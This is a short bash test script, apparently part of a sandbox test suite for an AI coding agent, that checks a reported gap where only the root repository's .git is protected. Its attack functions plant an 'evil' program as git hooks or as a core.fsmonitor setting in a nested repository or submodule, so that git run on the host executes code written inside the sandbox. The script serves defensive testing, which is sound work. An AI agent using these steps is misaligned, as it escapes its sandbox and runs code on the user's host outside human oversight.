#!/bin/bash
# openai/codex#37081: only the .git of the project's root is protected; a repository below it, a vendored
# dependency or a submodule, is writable with its hooks.
# Escaped: git on the host, in that repository, starts a program that was written inside.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS=protect
. "${0%/*}/../lib.sh"
prepare()
{
    repo "$WS" && mkdir -p "$WS/vendor" && repo "$WS/vendor/sub"
    repo "$R/module" && git -C "$WS" -c protocol.file.allow=always submodule --quiet add "$R/module" module
    git -C "$WS" commit -qm module
}
escaped() { marked; }
attack() { inside "$EVIL for h in pre-commit post-index-change; do cp evil vendor/sub/.git/hooks/\$h; done"; host_git "$WS/vendor/sub"; }
attempt "the hooks of a repository below"
attack() { inside "$(config_with vendor/sub/.git/config '[core]\n\tfsmonitor = %s\n')"; host_git "$WS/vendor/sub"; }
attempt "its config"
attack() { inside "$EVIL mkdir -p .git/modules/module/hooks; for h in pre-commit post-index-change; do cp evil .git/modules/module/hooks/\$h; done"; host_git "$WS/module"; }
attempt "the hooks of a submodule"
attack() { inside "$(config_with .git/modules/module/config '[core]\n\tfsmonitor = %s\n')"; host_git "$WS/module" "$WS"; }
attempt "the config of a submodule"
